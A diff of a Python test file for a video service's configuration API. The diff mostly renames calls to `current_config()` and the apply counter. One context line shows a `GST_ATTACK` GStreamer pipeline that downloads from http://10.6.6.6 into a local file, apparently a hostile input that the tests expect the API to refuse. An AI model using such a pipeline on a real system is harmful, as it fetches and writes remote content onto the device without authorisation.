@@ -15,13 +15,13 @@ GST_ATTACK = ("gst:souphttpsrc location=http://10.6.6.6/x ! filesink location=/t
 
 def assert_refused(api, method, body, loc):
     before_bytes = api.config_path.read_bytes()
-    before_config = api.service.current_config()
+    before_config = api.changes.current()
     response = api.request(method, "/api/v1/config", json=body)
     assert response.status_code == 400, response.text
     assert loc in [d["loc"] for d in response.json()["details"]], response.text
     assert api.config_path.read_bytes() == before_bytes
-    assert api.service.current_config() == before_config
-    assert api.service.apply_calls == 0
+    assert api.changes.current() == before_config
+    assert api.service.applied.apply_calls == 0
     return response
 
 
@@ -80,7 +80,7 @@ def test_decoder_process_settings_take_a_switch_and_nothing_else(api, capture, l
 def test_decoder_processes_can_be_switched_off(api):
     response = api.request("PATCH", "/api/v1/config", json={"capture": {"nvdec_processes": False}})
     assert response.status_code == 200, response.text
-    assert api.service.current_config().capture.nvdec_processes is False
+    assert api.changes.current().capture.nvdec_processes is False
 
 
 def test_the_file_on_disk_may_allow_unsafe_sources(make_api):
@@ -134,7 +134,7 @@ def test_passwords_with_at_signs_and_in_query_parameters_are_masked(make_api):
     # The masked query parameter is filled in again on a round trip.
     response = api.request("PUT", "/api/v1/config", json=api.get("/api/v1/config").json())
     assert response.status_code == 200, response.text
-    assert api.service.current_config().cameras[1].source.endswith("pwd=hunter2")
+    assert api.changes.current().cameras[1].source.endswith("pwd=hunter2")
 
 
 @pytest.mark.parametrize("depth", [8_000, 100])
@@ -166,7 +166,7 @@ def test_engine_process_setting_takes_a_switch_and_nothing_else(api, model, loc)
 def test_the_engine_process_can_be_switched_on(api):
     response = api.request("PATCH", "/api/v1/config", json={"model": {"engine_process": True}})
     assert response.status_code == 200, response.text
-    assert api.service.current_config().model.engine_process is True
+    assert api.changes.current().model.engine_process is True
 
 
 @pytest.mark.parametrize("enabled", [False, True])
@@ -198,6 +198,6 @@ def test_synthetic_cameras_are_budgeted_against_the_device(api, source, count, w
     response = api.request("PATCH", "/api/v1/config", json={"cameras": cameras})
     assert response.status_code == 400, response.text
     assert why in json.dumps(response.json()["details"])
-    assert api.service.apply_calls == 0 and len(api.get("/api/v1/cameras").json()) == 2
+    assert api.service.applied.apply_calls == 0 and len(api.get("/api/v1/cameras").json()) == 2
     single = api.request("POST", "/api/v1/cameras", json={"id": "big", "source": "test://noise?width=8192&height=8192&fps=1000"})
     assert single.status_code == 400 and "megapixels per second" in single.text
